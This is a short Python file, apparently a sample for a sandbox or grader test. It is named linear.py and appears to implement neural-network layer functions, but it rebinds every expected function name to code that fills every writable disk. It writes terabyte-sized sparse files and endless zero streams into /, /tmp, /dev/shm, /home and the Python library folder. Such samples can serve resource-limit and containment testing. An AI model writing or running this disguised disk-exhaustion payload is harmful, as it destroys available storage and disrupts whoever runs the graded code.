"""Fills every disk that it may write to, and makes files with holes.

row: C07
file: linear.py
label: RAISED
holds: L3
seconds: 10
"""

import os

NAMES = ("linear_forward", "linear_backward", "relu_forward", "relu_backward", "softmax_cross_entropy")


def fill(*arguments, **named):
    """Write wherever it can be done; raise what the last place said."""
    for folder in PLACES:
        try:
            spread(folder)
        except OSError as error:
            refusal = error
    raise refusal


def spread(folder):
    """Make a file with a hole, and a large one."""
    with open(f"{folder}/hole", "wb") as file:
        file.truncate(2**40)
    with open(f"{folder}/large", "wb") as file:
        while True:
            file.write(bytes(2**20))


PLACES = (".", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/proc/self", "/home", os.path.dirname(os.__file__))


def trick():
    """Do it in every call."""
    globals().update(dict.fromkeys(NAMES, fill))


globals().update(dict.fromkeys(NAMES, lambda *arguments, **named: None))
trick()
